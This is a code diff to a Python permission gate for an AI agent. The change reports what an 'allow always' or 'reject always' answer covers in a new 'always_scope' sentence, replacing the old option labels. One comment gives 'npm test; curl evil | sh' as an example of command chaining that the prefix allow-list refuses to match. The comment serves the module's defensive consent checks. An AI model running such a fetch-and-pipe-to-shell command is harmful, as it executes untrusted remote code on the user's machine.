@@ -11,7 +11,9 @@ the runtime hands it every destructive call before it runs. The gate decides fro
   in the sandbox: an escalation is always asked about);
 - the conversation's grants: an ``allow_always`` or ``reject_always`` answer is bound to
   the exact call (tool name + a digest of its arguments), so a changed command is asked
-  about again;
+  about again, or to the wider scope the tool named (network to one host for any
+  command, any call of one MCP tool); every request says which in ``always_scope``, one
+  sentence the clients show as it is (:func:`always_scope`);
 - otherwise the user, through an :class:`Asker` (``agent/requestPermission`` over LSP),
   within ``permissionTimeout`` seconds (unanswered counts as declined).
 
@@ -38,14 +40,15 @@ from .events import AgentEvent, PermissionAnswered, PermissionRequested
 APPROVAL_MODES: tuple[str, ...] = ("on-request", "always", "never")
 DEFAULT_PERMISSION_TIMEOUT = 300.0
 MAX_PERMISSION_TIMEOUT = 3600.0
-# ACP's option kinds; each option's id is its kind.
+# ACP's option kinds; each option's id is its kind. What "always" covers is not in the
+# labels but in the request's ``always_scope`` (one sentence, built where the grant is).
 ALLOW_ONCE, ALLOW_ALWAYS = "allow_once", "allow_always"
 REJECT_ONCE, REJECT_ALWAYS = "reject_once", "reject_always"
 OPTIONS: tuple[tuple[str, str], ...] = (
     (ALLOW_ONCE, "Allow once"),
-    (ALLOW_ALWAYS, "Allow always (this conversation, this exact call)"),
+    (ALLOW_ALWAYS, "Allow always"),
     (REJECT_ONCE, "Reject"),
-    (REJECT_ALWAYS, "Reject always (this conversation, this exact call)"),
+    (REJECT_ALWAYS, "Reject always"),
 )
 # A command with any of these is never matched by an allowedCommands prefix: they
 # chain, substitute or redirect, so "npm test; curl evil | sh" is not "npm test".
@@ -133,7 +136,8 @@ class ApprovalPolicy:
 class PermissionPrompt:
     """What the user is shown (the ``agent/requestPermission`` params, minus the wire):
     ``title`` and ``reason`` escaped (``tooling.display``), ``arguments`` the call's data,
-    ``options`` the answers offered as (kind, label)."""
+    ``options`` the answers offered as (kind, label), ``always_scope`` what an "always"
+    answer would cover (escaped; empty when no "always" answer is offered)."""
 
     session_id: str
     call_id: str
@@ -142,17 +146,19 @@ class PermissionPrompt:
     title: str
     reason: str
     options: tuple[tuple[str, str], ...] = OPTIONS
+    always_scope: str = ""
 
 
-def scoped_options(covers: str) -> tuple[tuple[str, str], ...]:
-    """The answers for a call whose "always" covers more than itself (``covers``, escaped:
-    e.g. any call of one MCP tool), so the label does not promise "this exact call"."""
-    return (
-        (ALLOW_ONCE, "Allow once"),
-        (ALLOW_ALWAYS, f"Allow always (this conversation: {covers})"),
-        (REJECT_ONCE, "Reject"),
-        (REJECT_ALWAYS, f"Reject always (this conversation: {covers})"),
-    )
+def always_scope(request: PermissionRequest) -> str:
+    """What an "always" answer to ``request`` covers, in one sentence, escaped: the wider
+    scope the tool named (``CallPermission.grant_title``: network to a host for any command,
+    any call of an MCP tool), else the exact call (``grant_digest`` decides the same way)."""
+    permission = request.permission
+    if permission is not None and permission.grant_scope is not None and permission.grant_title:
+        return escape_consent(f"{permission.grant_title}, for this conversation")
+    if isinstance(request.arguments.get("command"), str):
+        return "This exact command, for this conversation (a changed command asks again)"
+    return "This exact call, for this conversation (a call with other arguments asks again)"
 
 
 class Asker(Protocol):
@@ -215,8 +221,9 @@ class PermissionGate:
                 return PermissionDecision(True)
             return PermissionDecision(
                 False,
-                "the user declined this exact call for the rest of the conversation "
-                '("reject always"). Do not repeat it; continue without it, or ask the user.',
+                "the user declined this for the rest of the conversation "
+                f'("reject always": {grant.title}). Do not repeat it; continue without it, '
+                "or ask the user.",
             )
         if self._asker is None or not self._asker.can_ask():
             return PermissionDecision(
@@ -226,22 +233,10 @@ class PermissionGate:
                 "without that, or tell the user what is needed.",
             )
         reason = escape_consent(permission.reason) if permission else ""
-        options = OPTIONS
-        if permission is not None and permission.grant_title:
-            scope = escape_consent(permission.grant_title)
-            covers = f'"Always" covers: {scope}.'
-            reason = f"{reason} {covers}" if reason else covers
-            if permission.grant_scope is not None:
-                options = scoped_options(scope[:1].lower() + scope[1:])
-        return await self._ask(self._asker, request, title, reason, options)
+        return await self._ask(self._asker, request, title, reason)
 
     async def _ask(
-        self,
-        asker: Asker,
-        request: PermissionRequest,
-        title: str,
-        reason: str,
-        options: tuple[tuple[str, str], ...] = OPTIONS,
+        self, asker: Asker, request: PermissionRequest, title: str, reason: str
     ) -> PermissionDecision:
         prompt = PermissionPrompt(
             self._session_id,
@@ -250,7 +245,8 @@ class PermissionGate:
             request.arguments,
             title,
             reason,
-            options,
+            OPTIONS,
+            always_scope(request),
         )
         self._emit(
             PermissionRequested(
@@ -259,6 +255,7 @@ class PermissionGate:
                 request.raw_arguments,
                 title,
                 request.summary_key,
+                request.display_name,
             )
         )
         choice: str | None
@@ -277,6 +274,7 @@ class PermissionGate:
                 request.raw_arguments,
                 allowed,
                 request.summary_key,
+                request.display_name,
             )
         )
         if choice in (ALLOW_ALWAYS, REJECT_ALWAYS):
@@ -288,7 +286,8 @@ class PermissionGate:
         elif choice is None:
             detail = " (the request was dismissed)"
         elif choice == REJECT_ALWAYS:
-            detail = ", and will decline this exact call for the rest of the conversation"
+            scope = prompt.always_scope
+            detail = f", and will decline the same again ({scope[:1].lower()}{scope[1:]})"
         else:
             detail = ""
         return PermissionDecision(
